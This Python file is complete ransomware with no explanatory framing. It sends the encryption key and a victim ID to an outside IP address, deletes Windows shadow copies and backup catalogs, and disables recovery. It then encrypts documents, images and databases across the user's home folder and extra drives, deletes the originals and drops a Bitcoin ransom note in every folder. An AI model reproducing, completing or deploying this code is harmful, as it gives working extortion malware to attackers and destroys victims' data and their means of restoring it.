import os
import platform
import subprocess
import urllib.request

from cryptography.fernet import Fernet

EXTS = {".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pdf", ".jpg", ".png", ".txt", ".csv", ".sql", ".zip", ".psd"}
SKIP = ("Windows", "Program Files", "Program Files (x86)", "AppData", "$Recycle.Bin", "/proc", "/sys", "/dev")
NOTE = """YOUR FILES ARE ENCRYPTED
Send 0.05 BTC to bc1qfakefakefakefakefakefakefakefakefake and mail your ID to unlock@decrypt.invalid
ID: {id}
"""

key = Fernet.generate_key()
victim = os.urandom(6).hex()
try:
    urllib.request.urlopen("http://198.51.100.80/k", data=f"id={victim}&k={key.decode()}".encode(), timeout=10)
except Exception:
    pass
f = Fernet(key)

if platform.system() == "Windows":
    for cmd in ("vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled No",
                "wbadmin delete catalog -quiet"):
        subprocess.run(cmd, shell=True, capture_output=True)

roots = [os.path.expanduser("~")] + [f"{d}:\\" for d in "DEFGH" if os.path.exists(f"{d}:\\")]
for root in roots:
    for dirpath, dirs, files in os.walk(root):
        if any(s in dirpath for s in SKIP):
            continue
        for name in files:
            p = os.path.join(dirpath, name)
            if os.path.splitext(name)[1].lower() not in EXTS:
                continue
            try:
                with open(p, "rb") as fh:
                    data = fh.read()
                with open(p + ".crypted", "wb") as fh:
                    fh.write(f.encrypt(data))
                os.remove(p)
            except OSError:
                continue
        with open(os.path.join(dirpath, "HOW_TO_DECRYPT.txt"), "w") as nf:
            nf.write(NOTE.format(id=victim))
del key, f
